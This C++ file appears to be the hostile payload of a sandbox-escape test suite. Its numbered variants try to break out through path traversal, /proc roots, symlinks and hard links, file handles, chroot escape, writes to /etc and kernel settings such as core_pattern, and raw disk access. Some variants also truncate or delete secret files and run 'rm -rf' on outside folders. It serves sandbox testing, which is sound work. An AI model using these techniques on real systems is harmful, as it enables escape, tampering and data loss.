// Writing where a program has no business: other folders, the system, the kernel's settings. The driver looks
// for files that carry the run's token.
#include "hostile.h"

#include <dirent.h>
#include <sys/syscall.h>

namespace {

// A setting of the kernel, written back as it is: the right to do so is all that the driver wants to know.
[[maybe_unused]] void write_again(const char* path) {
  char text[256] = {};
  const int file = open(path, O_RDWR | O_CLOEXEC);
  if (file < 0) return;
  const ssize_t size = pread(file, text, sizeof(text) - 1, 0);
  escaped_if(size >= 0 && pwrite(file, text, static_cast<size_t>(size), 0) == size, path);
  close(file);
}

// A file of the host, opened from a folder that may lie outside of the sandbox.
[[maybe_unused]] void leave_file_at(const World& world, int folder) {
  const int file = openat(folder, world.text("--token"), O_CREAT | O_WRONLY, 0666);
  if (file >= 0) close(file);
}

}  // namespace

#if TRICK == 1  // upwards by dots
void attack(const World& world) {
  char path[128] = "..";
  for (int i = 0; i < 12; ++i) {
    leave_file(world, path);
    strcat(path, "/..");
  }
}
#elif TRICK == 2   // upwards from open folders
void attack(const World& world) {
  int folder = open(".", O_PATH | O_DIRECTORY);
  for (int i = 0; i < 12; ++i) {
    folder = openat(folder, "..", O_PATH | O_DIRECTORY);
    leave_file_at(world, folder);
  }
}
#elif TRICK == 3   // through /proc/self/root and /proc/self/cwd
void attack(const World& world) {
  world.each("--folder", [&](const char* folder) {
    char path[4096];
    snprintf(path, sizeof(path), "/proc/self/root%s", folder);
    leave_file(world, path);
    snprintf(path, sizeof(path), "/proc/self/cwd/../../../../../..%s", folder);
    leave_file(world, path);
  });
}
#elif TRICK == 4   // through the root of process 1 and of the driver
void attack(const World& world) {
  world.each("--folder", [&](const char* folder) {
    char path[4096];
    snprintf(path, sizeof(path), "/proc/1/root%s", folder);
    leave_file(world, path);
    snprintf(path, sizeof(path), "/proc/%s/root%s", world.text("--driver"), folder);
    leave_file(world, path);
    snprintf(path, sizeof(path), "/proc/%s/cwd", world.text("--driver"));
    leave_file(world, path);
  });
}
#elif TRICK == 5   // straight into the folders outside
void attack(const World& world) {
  world.each("--folder", [&](const char* folder) { leave_file(world, folder); });
}
#elif TRICK == 6   // into the folders outside, made anew under the same names
void attack(const World& world) {
  world.each("--folder", [&](const char* folder) {
    char path[4096];
    snprintf(path, sizeof(path), "mkdir -p '%s' && touch '%s/%s'", folder, folder, world.text("--token"));
    if (system(path) != 0) fprintf(stderr, "%s\n", path);
  });
}
#elif TRICK == 7   // over the secrets: a harmless-looking truncation
void attack(const World& world) {
  world.each("--secret", [&](const char* path) { escaped_if(truncate(path, 0) == 0, path); });
}
#elif TRICK == 8   // removing the secrets and the folders around them
void attack(const World& world) {
  world.each("--secret", [&](const char* path) { escaped_if(unlink(path) == 0, path); });
  world.each("--folder", [&](const char* path) {
    char command[4200];
    snprintf(command, sizeof(command), "rm -rf '%s'", path);
    if (system(command) != 0) fprintf(stderr, "%s\n", command);
  });
}
#elif TRICK == 9   // programs and headers of the system
void attack(const World& world) {
  for (const char* folder :
       {"/usr/bin", "/bin", "/usr/include", "/usr/lib", "/usr/local/bin", "/lib64", "/opt"}) {
    leave_file(world, folder);
  }
  escaped_if(open("/bin/sh", O_WRONLY) >= 0, "/bin/sh");
}
#elif TRICK == 10  // settings of the system
void attack(const World& world) {
  for (const char* folder : {"/etc", "/etc/cron.d", "/etc/ld.so.conf.d", "/var/spool/cron", "/root/.ssh"})
    leave_file(world, folder);
  for (const char* file : {"/etc/passwd", "/etc/ld.so.preload", "/etc/hosts", "/etc/resolv.conf"}) {
    escaped_if(open(file, O_WRONLY | O_APPEND) >= 0, file);
  }
}
#elif TRICK == 11  // places that everybody may write
void attack(const World& world) {
  for (const char* folder :
       {"/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/run", "/var/lock", "/dev/mqueue"}) {
    leave_file(world, folder);
  }
}
#elif TRICK == 12  // the program that the kernel starts for core dumps
void attack(const World&) {
  write_again("/proc/sys/kernel/core_pattern");
  write_again("/proc/sys/kernel/modprobe");
  write_again("/sys/kernel/uevent_helper");
}
#elif TRICK == 13  // settings of the kernel
void attack(const World&) {
  write_again("/proc/sys/kernel/randomize_va_space");
  write_again("/proc/sys/vm/overcommit_memory");
  write_again("/proc/sys/kernel/pid_max");
  write_again("/proc/sys/fs/file-max");
  write_again("/proc/sys/vm/panic_on_oom");
}
#elif TRICK == 14  // the kernel's emergency keys
void attack(const World&) {
  const int file = open("/proc/sysrq-trigger", O_WRONLY);
  escaped_if(file >= 0 && write(file, "h", 1) == 1, "/proc/sysrq-trigger");
  write_again("/proc/sys/kernel/sysrq");
}
#elif TRICK == 15  // memory and log of the kernel
void attack(const World&) {
  for (const char* file : {"/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/kmsg", "/dev/sda",
                           "/dev/vda", "/dev/nvme0n1"}) {
    escaped_if(open(file, O_RDWR) >= 0, file);
  }
}
#elif TRICK == 16  // a link in its own folder, written through
void attack(const World& world) {
  world.each("--folder", [&](const char* folder) {
    unlink("door");
    if (symlink(folder, "door") == 0) leave_file(world, "door");
  });
}
#elif TRICK == 17  // hard links to files of the system and to the secrets
void attack(const World& world) {
  for (const char* file : {"/etc/passwd", "/etc/shadow", "/bin/sh"})
    escaped_if(link(file, "hard") == 0, file);
  world.each("--secret", [&](const char* file) { escaped_if(link(file, "hard_secret") == 0, file); });
}
#elif TRICK == 18  // files by their handle, past every path
void attack(const World&) {
  struct {
    unsigned bytes = 128;
    int type = 0;
    unsigned char handle[128];
  } handle;
  int mount = 0;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, ".", &handle, &mount, 0) != 0) return;
  const int folder = open(".", O_RDONLY);
  escaped_if(syscall(SYS_open_by_handle_at, folder, &handle, O_RDONLY) >= 0, "opened a file by its handle");
}
#elif TRICK == 19  // a chroot and out of it again
void attack(const World& world) {
  mkdir("jail", 0777);
  const int folder = open(".", O_RDONLY);
  if (chroot("jail") != 0 || fchdir(folder) != 0) return;
  escaped("chroot was allowed");
  for (int i = 0; i < 64; ++i) {
    if (chdir("..") != 0) break;
  }
  if (chroot(".") == 0) world.each("--folder", [&](const char* path) { leave_file(world, path); });
}
#elif TRICK == 20  // open descriptors as doors
void attack(const World& world) {
  for (int fd = 3; fd < 1024; ++fd) {
    if (fchdir(fd) == 0) {
      leave_file(world, ".");
      leave_file(world, "..");
    }
    leave_file_at(world, fd);
  }
}
#elif TRICK == 21  // every folder that can be written, found by looking
void attack(const World& world) {
  char command[4096];
  snprintf(command, sizeof(command),
           "find / -xdev -maxdepth 3 -type d -writable -exec touch {}/%s \\; 2>/dev/null",
           world.text("--token"));
  if (system(command) != 0) fprintf(stderr, "find ended\n");
}
#elif TRICK == 22  // the program's folder in the cache, and the cache beside it
void attack(const World& world) {
  char path[4096] = {};
  if (readlink("/proc/self/exe", path, sizeof(path) - 1) < 0) return;
  for (char* slash = strrchr(path, '/'); slash != nullptr && slash != path; slash = strrchr(path, '/')) {
    *slash = 0;
    leave_file(world, path);
  }
}
#endif
